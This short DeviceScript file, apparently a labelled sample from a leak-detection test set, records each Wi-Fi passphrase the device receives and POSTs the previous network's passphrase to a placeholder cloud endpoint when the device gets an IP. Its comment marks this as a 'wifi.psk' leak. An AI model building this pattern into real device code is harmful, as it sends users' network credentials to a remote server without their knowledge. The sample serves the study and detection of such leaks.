// J62: set up for another network, tells its cloud the passphrase of the one before.
import { fetch } from "@devicescript/net";
import { offered, wifi } from "./lib/paired";

let home = "";
let before = "";

wifi.gotIp.subscribe(async () => {
  const body = JSON.stringify({ on: true, before });
  const reply = await fetch("https://cloud.example/state", { method: "POST", body }); // leak: wifi.psk
  await reply.close();
});
offered(async (ssid, psk) => {
  if (home !== "" && home !== psk) before = home;
  home = psk;
  await wifi.addNetwork(ssid, psk);
});
